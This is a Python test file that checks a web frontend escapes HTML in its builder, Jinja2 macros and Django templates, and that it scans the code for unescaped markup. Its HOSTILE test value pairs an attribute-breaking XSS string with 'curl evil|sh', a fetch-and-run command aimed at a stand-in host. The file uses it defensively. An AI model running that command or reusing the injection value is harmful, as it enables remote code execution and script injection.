"""HTML is escaped by construction: autoescaped templates (Jinja2 macros, Django templates) and,
for the renderers not yet moved to Jinja2, one builder (``frontend.html``); no markup by string
formatting.

The Jinja2 environment's and the builder's own behaviour are tested first; then every Python module
of ``frontend/`` is read (AST) and every template scanned, so an unescaped interpolation fails here
before review.
"""

from __future__ import annotations

import ast
import re
from pathlib import Path

import pytest
from django.template import Context, Template, engines
from jinja2.exceptions import UndefinedError
from markupsafe import Markup

from frontend.html import h, join, text

ROOT = Path(__file__).resolve().parents[2]
FRONTEND = ROOT / "frontend"
TEMPLATE_DIRS = [FRONTEND / "templates", FRONTEND / "jinja2", ROOT / "projects" / "templates"]
TEMPLATE_DIRS.append(ROOT / "config" / "templates")
# These two produce Markup from text they escape themselves (the builder; markdown-it and Pygments).
TRUSTED = {"frontend/html.py", "frontend/markdown.py"}
SAFE_MAKERS = {"Markup", "mark_safe", "SafeString", "SafeText", "format_html", "format_html_join"}
TAG = re.compile(r"<(?:[A-Za-z][A-Za-z0-9-]*(?:[\s/>]|\Z)|/[A-Za-z]|!)")  # a start or end tag, comment
UNSAFE_TEMPLATE = re.compile(r"\|\s*safe(?:seq)?\b|{%-?\s*autoescape\s+(?:off|false)|{%-?\s*filter\s+safe")

HOSTILE = 'x" id="p" data-copy=\'curl evil|sh\' <script>&amp;'


def test_text_children_and_attribute_values_are_escaped_quotes_included() -> None:
    html = h("li", {"class": f"todo-{HOSTILE}", "title": HOSTILE}, HOSTILE)
    assert html == (
        '<li class="todo-x&#34; id=&#34;p&#34; data-copy=&#39;curl evil|sh&#39; &lt;script&gt;&amp;amp;" '
        'title="x&#34; id=&#34;p&#34; data-copy=&#39;curl evil|sh&#39; &lt;script&gt;&amp;amp;">'
        "x&#34; id=&#34;p&#34; data-copy=&#39;curl evil|sh&#39; &lt;script&gt;&amp;amp;</li>"
    )
    assert isinstance(html, Markup)


def test_markup_children_are_kept_but_markup_in_an_attribute_is_text() -> None:
    icon = h("svg", {"class": "icon"})
    expected = '<span title="&lt;svg class=&#34;icon&#34;&gt;&lt;/svg&gt;"><svg class="icon"></svg></span>'
    assert h("span", {"title": icon}, icon) == expected


def test_attribute_values_none_false_true_numbers_and_class_lists() -> None:
    attrs = {"class": ["card", False, "cont", None, ""], "open": True, "hidden": False, "id": None, "data-n": 3}
    assert h("details", attrs) == '<details class="card cont" open data-n="3"></details>'


def test_children_flatten_and_skip_nothing_values() -> None:
    rows = (h("li", None, n) for n in (1, 2))
    assert h("ul", None, rows, None, False, "", [text("a"), ["<b>"]]) == "<ul><li>1</li><li>2</li>a&lt;b&gt;</ul>"
    assert h("br") == "<br>"
    assert join(["a", None, "<b>", ""], Markup("<br>")) == "a<br>&lt;b&gt;"


@pytest.mark.parametrize("name", ["x onclick", 'a"b', "", "1a", "a>b", "on:click=1"])
def test_tag_and_attribute_names_must_be_plain_identifiers(name: str) -> None:
    with pytest.raises(ValueError):
        h(name)
    with pytest.raises(ValueError):
        h("span", {name: "x"})


def test_django_templates_print_builder_output_as_is_and_escape_plain_text() -> None:
    rendered = Template("{{ html }}|{{ plain }}").render(Context({"html": h("b", None, "<i>"), "plain": "<i>"}))
    assert rendered == "<b>&lt;i&gt;</b>|&lt;i&gt;"


def test_jinja2_macros_escape_text_and_django_templates_print_their_markup_as_is() -> None:
    macro = engines["jinja2"].from_string('{% macro item(t) %}<li title="{{ t }}">{{ t }}</li>{% endmacro %}')
    html = macro.template.module.item(HOSTILE)
    escaped = "x&#34; id=&#34;p&#34; data-copy=&#39;curl evil|sh&#39; &lt;script&gt;&amp;amp;"
    assert html == f'<li title="{escaped}">{escaped}</li>'
    assert Template("{{ html }}").render(Context({"html": html})) == html


def test_a_misspelt_name_in_a_jinja2_template_fails_instead_of_printing_nothing() -> None:
    with pytest.raises(UndefinedError):
        engines["jinja2"].from_string("{{ card.anchr }}").render({"card": object()})


# --- the checker over frontend/ ------------------------------------------------------------------


def _docstrings(tree: ast.AST) -> set[int]:
    found = set()
    for node in ast.walk(tree):
        body = getattr(node, "body", None)
        first = body[0] if isinstance(body, list) and body else None
        if isinstance(first, ast.Expr) and isinstance(first.value, ast.Constant) and isinstance(first.value.value, str):
            found.add(id(first.value))
    return found


def _call_name(node: ast.Call) -> str:
    func = node.func
    return func.id if isinstance(func, ast.Name) else func.attr if isinstance(func, ast.Attribute) else ""


def markup_violations(source: str, *, trusted: bool = False) -> list[str]:
    """Where ``source`` writes markup other than through the builder (line: what)."""
    tree = ast.parse(source)
    skip = _docstrings(tree)
    found = []
    for node in ast.walk(tree):
        if isinstance(node, ast.Call) and _call_name(node) in SAFE_MAKERS:
            literal = all(isinstance(a, ast.Constant) and isinstance(a.value, str) for a in node.args)
            if node.args and not literal and not (trusted and _call_name(node) == "Markup"):
                found.append(f"{node.lineno}: {_call_name(node)}() of a non-literal: use h()")
            skip.update(id(a) for a in node.args)
    for node in ast.walk(tree):
        plain = isinstance(node, ast.Constant) and isinstance(node.value, str) and id(node) not in skip
        if plain and not trusted and TAG.search(node.value):
            found.append(f"{node.lineno}: markup in a plain string {node.value[:40]!r}: use h() or Markup('…')")
    return found


def _modules() -> list[Path]:
    return sorted(path for path in FRONTEND.rglob("*.py") if "migrations" not in path.parts)


def test_no_frontend_module_writes_markup_by_string_formatting() -> None:
    problems = []
    for path in _modules():
        name = path.relative_to(ROOT).as_posix()
        problems += [f"{name}:{v}" for v in markup_violations(path.read_text(), trusted=name in TRUSTED)]
    assert problems == []


def test_no_template_marks_text_safe() -> None:
    problems = []
    for folder in TEMPLATE_DIRS:
        for path in folder.rglob("*.html"):
            for number, line in enumerate(path.read_text().splitlines(), 1):
                if UNSAFE_TEMPLATE.search(line):
                    problems.append(f"{path.relative_to(ROOT)}:{number}: {line.strip()[:80]}")
    assert problems == []


UNSAFE_LINES = [
    "{{ text|safe }}",
    "{% autoescape off %}",
    "{%- autoescape false %}",
    "{% filter safe %}",
    "{{ x|safeseq }}",
]


@pytest.mark.parametrize("line", UNSAFE_LINES)
def test_the_template_scan_catches_text_marked_safe(line: str) -> None:
    assert UNSAFE_TEMPLATE.search(line)


@pytest.mark.parametrize(
    "source",
    [
        "x = f'<li class=\"todo-{status}\">'",
        "x = '<p>%s</p>' % text",
        "x = '<b>{}</b>'.format(text)",
        "x = '<td>' + text + '</td>'",
        "x = Markup(f'<b>{text}</b>')",
        "x = Markup(text)",
        "x = mark_safe(text)",
        "x = format_html('<b>{}</b>', text)",
        "x = '</pre>'",
    ],
)
def test_the_checker_catches_markup_written_by_hand(source: str) -> None:
    assert markup_violations(source)


@pytest.mark.parametrize(
    "source",
    [
        "x = h('li', {'class': f'todo-{status}'}, text)",
        "x = Markup('<br>')",
        "x = Markup('<b>%s</b>') % text",
        "x = f'{n:,} more characters — 1 < 2'",
        "def f():\n    '''Docs may show <tags>.'''",
    ],
)
def test_the_checker_lets_the_builder_through(source: str) -> None:
    assert markup_violations(source) == []
